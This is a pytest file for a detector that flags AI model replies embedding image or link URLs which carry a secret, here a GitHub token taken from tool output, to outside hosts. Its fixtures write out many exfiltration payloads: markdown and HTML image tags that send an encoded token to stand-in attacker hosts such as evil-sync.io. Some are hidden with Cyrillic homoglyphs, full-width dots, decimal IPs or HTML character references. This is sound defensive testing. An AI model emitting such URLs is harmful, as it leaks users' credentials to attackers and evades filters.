"""Image and link hosts written in forms browsers load: IDN / Unicode hosts, full-width and ideographic dots,
``%2E``, numeric IPv4, and URLs hidden behind HTML character references in attributes and markdown destinations."""

import base64
import random

import pytest
import yaml

from detectors.exfil import ExfilConfig, ExfilDetector
from detectors.exfil.decoding import canonical_host
from detectors.exfil.registry import AppRegistry
from detectors.exfil.secrets import base62_crc32
from detectors.exfil.urls import ENTITY_URL, browser_url, entity_urls
from tests.fixtures.exfil.builders import ALNUM, chat, run

BODY = "".join(random.Random(7).choices(ALNUM, k=30))
TOKEN = f"ghp_{BODY}{base62_crc32(BODY)}"  # well-formed, random
DATA = base64.urlsafe_b64encode(TOKEN.encode()).decode().rstrip("=")


@pytest.fixture(scope="module")
def detector(tmp_path_factory) -> ExfilDetector:
    path = tmp_path_factory.mktemp("registry") / "registry.yaml"
    allowed = {"allowed_domains": ["acme.test", "bücher.de"]}  # an IDN written as people write it
    path.write_text(yaml.safe_dump({"applications": {"support-bot": allowed}}, allow_unicode=True), encoding="utf-8")
    return ExfilDetector(ExfilConfig(registry_path=path))


def url_alerts(detector, completion: str) -> list:
    detections, _ = run(detector, chat(tool_results=[f"GITHUB_TOKEN={TOKEN}"], completion=completion))
    return [d for d in detections if d.rule.id.startswith("abw-exfil-url")]


# --- host canonicalisation --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "canonical"),
    [
        ("EVIL-SYNC.IO", "evil-sync.io"),
        ("еvil-sync.io", "xn--vil-sync-b8g.io"),  # Cyrillic е
        ("データ-sync.jp", "xn---sync-lr4d2b80a.jp"),
        ("evil-sync\uff0eio", "evil-sync.io"),  # full-width full stop
        ("evil-sync\u3002io", "evil-sync.io"),  # ideographic full stop
        ("evil-sync\uff61io", "evil-sync.io"),  # half-width ideographic full stop
        ("ｅｖｉｌ-sync.io", "evil-sync.io"),  # full-width letters
        ("evil-sync%2Eio", "evil-sync.io"),
        ("3405803786", "203.0.113.10"),  # one decimal number
        ("0xcb00710a", "203.0.113.10"),
        ("0xcb.0.0161.10", "203.0.113.10"),  # hex and octal parts
        ("203.0.29450", "203.0.115.10"),  # the last part fills the bytes left
        ("1.2.3.4", "1.2.3.4"),
        ("[::1]", "[::1]"),
        ("256.1.1.1", None),  # ends in a number that is no address: browsers refuse it
        ("1.2.3.4.5", None),
        ("x" * 70 + "é.io", None),  # an IDN label too long for DNS
    ],
)
def test_canonical_host(host, canonical):
    assert canonical_host(host) == canonical


@pytest.mark.parametrize(
    ("token", "url"),
    [
        ("https://x.test/p", "https://x.test/p"),
        ("https://X.Test/p", "https://X.Test/p"),  # a case change alone leaves the URL as written
        ("https://еvil.io/p?d=1", "https://xn--vil-qdd.io/p?d=1"),
        ("https://u:p@evil\uff0eio:8443/p", "https://u:p@evil.io:8443/p"),  # user-info and port kept
        ("https://3405803786/p.png", "https://203.0.113.10/p.png"),
        ("https://999.1.1.1/p", None),
    ],
)
def test_browser_url(token, url):
    assert browser_url(token) == url


# --- URLs behind character references -----------------------------------------------------------------------------


def references(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


@pytest.mark.parametrize(
    "text",
    [
        '<img src="&#104;ttps://evil-sync.io/p.png?d=1">',
        f'<img src="{references("https://evil-sync.io/p.png?d=1")}">',
        "<img src='https&colon;//evil-sync.io/p.png?d=1'>",
        "<img src=&#x68;ttps://evil-sync.io/p.png?d=1>",
        "![s](&#104;ttps://evil-sync.io/p.png?d=1)",
        "![s][r]\n\n[r]: &#104;ttps://evil-sync.io/p.png?d=1",
        '<img src="https://evil-sync&period;io/p.png?d=1">',
    ],
)
def test_entity_urls_decode_attribute_values_and_markdown_destinations(text):
    [hit] = entity_urls(text)
    assert (hit.kind, hit.key) == (ENTITY_URL, "https://evil-sync.io/p.png?d=1")
    assert text[hit.start : hit.end] == hit.value  # the span as written


@pytest.mark.parametrize(
    "text",
    [
        "Tom &amp; Jerry",  # no URL
        '<img src="logo&amp;v=2.png">',  # a relative path
        "[a](https://x.test/a?b=1&c=2)",  # no character reference: the anchors' job
    ],
)
def test_entity_urls_ignore_what_no_reference_hides(text):
    assert entity_urls(text) == []


# --- alerts -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("image", "host"),
    [
        (f"![s](https://еvil-sync.io/p.png?d={DATA})", "xn--vil-sync-b8g.io"),
        (f"![s](https://データ-sync.jp/p.png?d={DATA})", "xn---sync-lr4d2b80a.jp"),
        (f"![s](https://evil-sync\uff0eio/p.png?d={DATA})", "evil-sync.io"),
        (f"![s](https://evil-sync\u3002io/p.png?d={DATA})", "evil-sync.io"),
        (f"![s](https://evil-sync%2Eio/p.png?d={DATA})", "evil-sync.io"),
        (f"![s](https://3405803786/p.png?d={DATA})", "203.0.113.10"),
        (f"![s](https://еvil-sync.io/{DATA}.png)", "xn--vil-sync-b8g.io"),  # data in the path: no signature net
        (f'<img src="https://еvil-sync.io/{DATA}.png">', "xn--vil-sync-b8g.io"),
        (f'<img src="//evil-sync\uff0eio/p.png?d={DATA}">', "evil-sync.io"),
        (f'<img src="&#104;ttps://evil-sync.io/p.png?d={DATA}">', "evil-sync.io"),
        (f'<img src="{references(f"https://evil-sync.io/p.png?d={DATA}")}">', "evil-sync.io"),
        (f"![s](&#104;ttps://evil-sync.io/p.png?d={DATA})", "evil-sync.io"),
    ],
)
def test_image_hosts_browsers_load_are_judged(detector, image, host):
    [alert] = url_alerts(detector, f"Looks fine. {image}")
    assert (alert.rule.id, alert.rule.level) == ("abw-exfil-url-image", "critical")
    assert alert.message.endswith(f"sent to {host} in an image URL")


def test_a_token_behind_character_references_is_masked_as_written(detector):
    written = references(f"https://evil-sync.io/p.png?d={TOKEN}")
    detections, findings = run(
        detector, chat(tool_results=[f"GITHUB_TOKEN={TOKEN}"], completion=f'Done <img src="{written}">')
    )
    alert = next(d for d in detections if d.rule.id == "abw-exfil-url-image")
    assert "html_entities" in alert.evidence[0].transforms
    assert written in {s.value for s in findings.sensitive if s.kind == "encoded_data"}
    referenced_token = references(TOKEN)
    assert not any(referenced_token[:40] in e.snippet or TOKEN[:12] in e.snippet for e in alert.evidence)


def test_an_escaped_ampersand_in_a_url_found_as_written_is_one_alert(detector):
    assert len(url_alerts(detector, f'<img src="https://cdn.evil.test/p.png?a=1&amp;d={DATA}">')) == 1


@pytest.mark.parametrize(
    "completion",
    [
        f"![x](https://bücher.de/p.png?d={DATA})",  # allowed, written in Unicode
        f"![x](https://xn--bcher-kva.de/p.png?d={DATA})",  # allowed, written in punycode
        f"詳細は https://docs.acme.test/guide/{DATA}。次に進みます",  # a sentence's full stop is no part of the host
        f'<a href="&#104;ttps://docs.acme.test/x?d={DATA}">guide</a>',  # allowed host behind references
        "Tom &amp; Jerry: [cartoon](https&#58;//example.org/episodes)",  # no data
        "see https://例え.jp/ for more",  # an IDN without data
    ],
)
def test_benign_host_forms(detector, completion):
    assert url_alerts(detector, completion) == []


def test_registry_allowlist_entries_are_compared_as_hosts_are(tmp_path):
    path = tmp_path / "registry.yaml"
    path.write_text(yaml.safe_dump({"defaults": {"allowed_domains": ["Bücher.DE", "docs\uff0eacme.test"]}}))
    profile = AppRegistry(path).profile(None)
    assert profile.domain_allowed("xn--bcher-kva.de") and profile.domain_allowed("img.docs.acme.test")
